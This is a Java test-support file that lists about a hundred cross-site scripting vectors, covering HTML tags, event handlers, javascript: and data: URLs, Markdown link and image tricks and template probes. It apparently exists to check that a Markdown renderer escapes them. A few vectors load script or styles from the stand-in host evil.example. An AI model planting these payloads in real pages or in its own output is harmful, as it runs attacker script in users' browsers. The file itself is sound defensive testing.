package network.vanguard.text;

import java.util.List;

/** Texts that would run a script if anybody let them. */
public final class ScriptVectors {

    private ScriptVectors() {}

    /** Each is an attempt to run something, and calls {@code alert} if it does. */
    public static List<String> all() {
        return List.of(
                // elements that run or load something
                "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
                "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>", "<svg><script>alert(1)</script></svg>",
                "<svg/onload=alert(1)>", "<img src=x onerror=alert(1)>", "<img src=x onerror\n=\nalert(1)>",
                "<img/src/onerror=alert(1)>", "<image src=x onerror=alert(1)>", "<body onload=alert(1)>",
                "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
                "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<applet code=x>",
                "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;javascript:alert(1)'>",
                "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>",
                "<form action=javascript:alert(1)><button>x", "<button formaction=javascript:alert(1)>x",
                "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
                "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<math href=javascript:alert(1)>x", "<svg><a xlink:href=javascript:alert(1)><text y=9>x",
                "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><use href='data:image/svg+xml,<svg/>#x'>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script>",
                "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><img src=x onerror=alert(1)>",
                "<textarea><img src=x onerror=alert(1)></textarea><img src=x onerror=alert(1)>",
                "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>",
                "<?xml <img src=x onerror=alert(1)>?>", "<!DOCTYPE x [<!ENTITY y '<script>'>]>",
                "<a/href=javascript:alert(1)>x",
                "<p style=background:url(javascript:alert(1))>x", "<div id=x class=nhsuk-header name=y>x</div>",
                "<a href=\"javascript&colon;alert(1)\">x</a>", "<a href=\"jav\tascript:alert(1)\">x</a>",
                "<a href=' javascript:alert(1)'>x</a>", "<x onclick=alert(1)>x", "<p onclick=alert(1)//\n>x",
                // Markdown's own ways
                "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](<javascript:alert(1)>)",
                "[x](&#106;avascript:alert(1))", "[x](javascript&#58;alert(1))", "[x](java&Tab;script:alert(1))",
                "[x](java&NewLine;script:alert(1))", "[x](\\x01javascript:alert(1))", "[x](&#1;javascript:alert(1))",
                "[x](vbscript:msgbox(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)",
                "[x](data:text/html,<script>alert(1)</script>)",
                "![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg/onload=alert(1)>)", "![x\" onerror=\"alert(1)](y)",
                "[x](y \"z\\\" onclick=\\\"alert(1)\")", "[x](y\"onclick=\"alert(1))", "<javascript:alert(1)>",
                "[x]: javascript:alert(1)\n\n[x]", "[x][y]\n\n[y]: <javascript:alert(1)> 'z'",
                "```x\" onclick=\"alert(1)\ny\n```", "```<script>\nalert(1)\n```",
                "| <img src=x onerror=alert(1)> |\n|-|\n| <b> |",
                "# <script>alert(1)</script>", "`<script>alert(1)</script>`", "    <script>alert(1)</script>",
                "http://a.uk/\"onmouseover=\"alert(1)", "http://a.uk/<script>alert(1)</script>", "www.a.uk/'onclick='alert(1)",
                "<http://a.uk/\"onclick=\"alert(1)>", "[![x](javascript:alert(1))](javascript:alert(2))",
                "[<img src=x onerror=alert(1)>](javascript:alert(2))", "\u003cscript\u003ealert(1)\u003c/script\u003e",
                "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;",
                "{inject:x} {config:y} {{7*7}} ${7*7}");
    }

    /** What a page would hold if nobody escaped or cleaned anything: the text itself, and what Markdown makes of it. */
    public static String unprotected(String vector) {
        return vector + Markdown.raw(Markdown.parse(vector), 10_000_000);
    }
}
